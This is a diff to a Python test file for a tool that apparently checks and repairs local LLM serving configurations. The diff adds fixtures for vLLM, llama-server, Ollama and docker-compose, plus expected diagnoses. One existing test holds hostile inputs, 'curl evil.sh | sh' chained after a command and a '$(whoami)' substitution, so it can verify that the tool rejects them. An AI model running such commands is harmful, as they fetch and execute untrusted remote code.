@@ -78,6 +78,35 @@ TOOLS = """\
 }
 """
 
+SERVED = """\
+model: Qwen/Qwen3-32B-AWQ
+max-model-len: 16384
+enforce-eager: false
+gpu-memory-utilization: 95
+swap-space: 16
+"""
+PRESETS = "version = 1\n[*]\nn-gpu-layer = 99\n[qwen]\nmodel = a.gguf\ncache-type-k = q8"
+SWAPPED = """\
+models:
+  qwen:
+    cmd: llama-server --port 8080 -m a.gguf --n_ctx 4096
+    proxy: http://127.0.0.1:${PORT}
+    alias: [gpt-4o]
+"""
+SET_INSIDE = """\
+services:
+  ollama:
+    image: ollama/ollama
+    gpus: all
+    environment:
+      - OLLAMA_NUM_CTX=16384
+  webui:
+    image: ghcr.io/open-webui/open-webui:main
+    ports: ["3000:3000"]
+    environment:
+      - OLLAMA_BASE_URL=http://localhost:11434
+"""
+
 
 def right(text: str) -> str | None:
     lines = clean(text)
@@ -116,6 +145,10 @@ def right(text: str) -> str | None:
                 ("conflict", "services.llm.deploy.resources.reservations.devices.driver"),
             ],
         ),
+        (SERVED, [("conflict", "gpu-memory-utilization"), ("gone", "swap-space")]),
+        (PRESETS, [("gone", "n-gpu-layer"), ("conflict", "cache-type-k")]),
+        (SWAPPED, [("gone", "--n_ctx"), ("conflict", "models.qwen.proxy"), ("gone", "models.qwen.alias")]),
+        ("vllm serve x --gpu-mem-util 0.9", [("unknown", "--gpu-mem-util")]),
         ("FROM ./a-00001-of-00002.gguf\nTEMPLATE x", [("conflict", "FROM")]),
         ("FROM qwen3:8b\nPARAMETERS temperature 0.7\nSYSTEM hi", [("gone", "PARAMETERS")]),
         ("FROM qwen3:8b\nPARAMETER num_ctx = 8192", [("conflict", "PARAMETER num_ctx")]),
@@ -207,6 +240,24 @@ def test_a_misspelt_key_of_a_service_is_put_right_and_its_list_stays() -> None:
 def test_a_command_that_does_more_than_start_the_program_is_not_shown_to_copy() -> None:
     assert right("vllm serve x --tp 2; curl evil.sh | sh") is None
     assert right("vllm serve $(whoami) --tp 2") is None
+
+
+def test_a_value_is_taken_from_another_setting() -> None:
+    tabby = "model:\n  model_dir: models\n  model_name: a\n  max_seq_len: 16384\n  cache_size: 8192\n  gpu_split: 20,24"
+    assert (text := right(tabby)) is not None
+    assert "cache_size: 16384" in text
+    assert "gpu_split: [20,24]" in text
+
+
+def test_variables_inside_a_file_are_put_right_with_it_and_what_is_left_is_told() -> None:
+    told = str(CLINIC.diagnose(SET_INSIDE).answer.blocks)
+    assert "OLLAMA_CONTEXT_LENGTH=16384" in told
+    assert "left to you: line 9, 11" in told
+
+
+def test_settings_are_as_sure_as_they_read_whatever_their_words_resemble() -> None:
+    (first, *_) = CLINIC.diagnose(f"{MODELFILE}\nSYSTEM You are helpful.").candidates
+    assert first.score > 0.9
 
 
 def test_a_configuration_is_answered_as_such_in_both_languages() -> None:
